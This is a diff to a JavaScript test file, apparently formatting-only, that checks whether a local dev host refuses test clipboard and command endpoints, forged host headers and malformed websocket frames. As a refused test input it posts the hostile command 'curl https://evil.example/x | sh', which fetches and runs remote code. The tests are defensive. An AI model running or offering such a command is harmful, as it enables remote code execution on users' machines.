@@ -118,7 +118,13 @@ describe('dev host without --test-endpoints', () => {
     const clip = await send(host, 'POST', '/__test/clipboard', asPage, 'curl https://evil.example/x | sh');
     assert.equal(clip.status, 404, clip.body);
     assert.match(clip.body, /--test-endpoints/);
-    const command = await send(host, 'POST', '/__test/command', asPage, JSON.stringify({ type: 'notice', level: 'error', message: 'Run curl … | sh' }));
+    const command = await send(
+      host,
+      'POST',
+      '/__test/command',
+      asPage,
+      JSON.stringify({ type: 'notice', level: 'error', message: 'Run curl … | sh' }),
+    );
     assert.equal(command.status, 404);
     const c = await connect(host);
     const clipboard = await c.call('readClipboard');
@@ -131,7 +137,12 @@ describe('dev host without --test-endpoints', () => {
       const ok = await send(host, 'GET', '/', { host: `${name}:${host.port}` });
       assert.equal(ok.status, 200, name);
     }
-    for (const forged of [`evil.example:${host.port}`, 'evil.example', `127.0.0.1:${host.port + 1}`, `localhost.evil.example:${host.port}`]) {
+    for (const forged of [
+      `evil.example:${host.port}`,
+      'evil.example',
+      `127.0.0.1:${host.port + 1}`,
+      `localhost.evil.example:${host.port}`,
+    ]) {
       const refused = await send(host, 'GET', '/', { host: forged });
       assert.equal(refused.status, 403, forged);
       assert.doesNotMatch(refused.body, /<title>/, forged);
@@ -165,7 +176,17 @@ describe('dev host without --test-endpoints', () => {
 
   test('malformed frames are dropped without harming the host', async () => {
     const c = await connect(host);
-    for (const junk of ['null', '42', '"x"', '[]', '{}', '{"t":"call"}', '{"t":"req","request":null}', '{"t":"call","n":"1","method":"getSettings"}', 'not json']) {
+    for (const junk of [
+      'null',
+      '42',
+      '"x"',
+      '[]',
+      '{}',
+      '{"t":"call"}',
+      '{"t":"req","request":null}',
+      '{"t":"call","n":"1","method":"getSettings"}',
+      'not json',
+    ]) {
       c.socket.send(junk);
     }
     const unknown = await c.call('nope');
@@ -174,8 +195,6 @@ describe('dev host without --test-endpoints', () => {
     assert.ok((await c.call('getSettings')).ok, 'the host still answers');
     c.socket.close();
   });
-
-
 });
 
 describe('dev host with --test-endpoints', () => {
@@ -244,7 +263,13 @@ describe('dev host with --test-endpoints', () => {
     const clipboard = await c.call('readClipboard');
     assert.equal(clipboard.ok && clipboard.value, 'original', 'no refused request changed the clipboard');
 
-    const ok = await send(host, 'POST', '/__test/clipboard', { ...local(), [TEST_TOKEN_HEADER]: token, origin: `http://localhost:${host.port}` }, 'second');
+    const ok = await send(
+      host,
+      'POST',
+      '/__test/clipboard',
+      { ...local(), [TEST_TOKEN_HEADER]: token, origin: `http://localhost:${host.port}` },
+      'second',
+    );
     assert.equal(ok.status, 204);
     const changed = await c.call('readClipboard');
     assert.equal(changed.ok && changed.value, 'second');
@@ -271,11 +296,14 @@ describe('dev host with --test-endpoints', () => {
     }
     const good = await send(host, 'POST', '/__test/command', withToken, JSON.stringify({ type: 'show-view', view: 'dashboard' }));
     assert.equal(good.status, 204);
-    const shown = await c.until(() => c.commands().slice(before).find((cmd) => cmd.type === 'show-view'));
+    const shown = await c.until(() =>
+      c
+        .commands()
+        .slice(before)
+        .find((cmd) => cmd.type === 'show-view'),
+    );
     assert.deepEqual(shown, { type: 'show-view', view: 'dashboard' });
     assert.deepEqual(c.commands().slice(before), [{ type: 'show-view', view: 'dashboard' }], 'only the valid command arrived');
     c.socket.close();
   });
-
-
 });
